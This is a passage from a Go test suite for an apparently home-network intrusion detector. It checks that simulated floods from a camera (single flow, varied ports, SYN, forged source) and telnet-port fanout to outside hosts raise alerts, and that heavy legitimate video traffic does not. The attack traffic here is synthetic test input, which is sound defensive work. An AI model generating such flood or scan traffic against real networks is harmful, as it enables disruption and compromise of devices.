		v.send(packet.Packet{Layers: packet.IPv4 | packet.TCP, Proto: 6, SrcMAC: macs[cam], Src: outside(i), Dst: outside(100 + i), SrcPort: 1, DstPort: 23, Flags: packet.SYN})
	}
	v.want(detect.AdminFanout, attack, string(camID), "source")
}

func TestFlood(t *testing.T) {
	for name, send := range map[string]func(w *world, i int){
		"one flow":    func(w *world, i int) { w.dgram(cam, 5000, stranger, 80, "x") },
		"other ports": func(w *world, i int) { w.dgram(cam, uint16(i), stranger, 80, "x") },
		"SYN":         func(w *world, i int) { w.seg(cam, uint16(i), stranger, 80, packet.SYN, uint32(i), "") },
		"forged source": func(w *world, i int) {
			w.send(packet.Packet{Layers: packet.IPv4 | packet.UDP, Proto: 17, SrcMAC: macs[cam], Src: outside(i), Dst: stranger, SrcPort: uint16(i), DstPort: 80})
		},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t, detect.Config{}, homeDevices())
			for i := range 12000 {
				send(w, i)
				w.now = w.now.Add(300 * time.Microsecond)
			}
			if a := w.want(detect.Flood, attack, string(camID), "source"); a.Peer != stranger || a.Stage != ringwall.Action {
				t.Errorf("alert %+v", a)
			}
		})
	}
}

func TestFlood_videoIsHonest(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	d := w.open(cam, cloud, 443)
	for i := range 30000 { // a fast upload, acknowledged
		d.w.seg(cam, d.sport, cloud, 443, packet.ACK, d.up, "xxxx")
		if i%20 == 0 {
			d.w.seg(cloud, 443, cam, d.sport, packet.ACK, d.down, "")
		}
		w.now = w.now.Add(200 * time.Microsecond)
	}
	for range 30000 { // video to a screen of the house
		w.dgram(cam, 5004, phone, 5004, "x")
		w.now = w.now.Add(200 * time.Microsecond)
	}
	if n := len(w.of(detect.Flood)); n != 0 {
		t.Errorf("%d alerts: %s", n, w.summary())
	}
}
